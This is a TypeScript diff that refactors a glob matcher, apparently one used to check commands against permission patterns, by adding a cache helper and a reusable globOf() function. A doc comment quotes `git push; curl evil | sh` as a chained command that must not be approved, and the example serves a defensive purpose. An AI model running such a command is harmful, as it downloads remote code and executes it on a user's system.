@@ -6,7 +6,16 @@
  * is no yes to `git push; curl evil | sh`.
  */
 export function glob(pattern: string, text: string, within: (char: string) => boolean = () => true): boolean {
+  return matches(remembered(pattern), text, within)
+}
+
+/** The same for one pattern and many texts. */
+export function globOf(pattern: string): (text: string, within?: (char: string) => boolean) => boolean {
   const parts = compile(pattern)
+  return (text, within = () => true) => matches(parts, text, within)
+}
+
+function matches(parts: readonly Part[], text: string, within: (char: string) => boolean): boolean {
   let p = 0
   let t = 0
   let star = -1
@@ -31,17 +40,22 @@ type Part = string | typeof ANY | typeof ONE
 const compiled = new Map<string, Part[]>()
 const REMEMBERED = 2048
 
-function compile(pattern: string): Part[] {
+function remembered(pattern: string): Part[] {
   const known = compiled.get(pattern)
   if (known !== undefined) return known
+  const parts = compile(pattern)
+  if (compiled.size >= REMEMBERED) compiled.clear()
+  compiled.set(pattern, parts)
+  return parts
+}
+
+function compile(pattern: string): Part[] {
   const parts: Part[] = []
   for (let i = 0; i < pattern.length; i++) {
     const char = pattern[i] as string
     if (char === '\\' && i + 1 < pattern.length) parts.push(pattern[++i] as string)
     else parts.push(char === '*' ? ANY : char === '?' ? ONE : char)
   }
-  if (compiled.size >= REMEMBERED) compiled.clear()
-  compiled.set(pattern, parts)
   return parts
 }
 
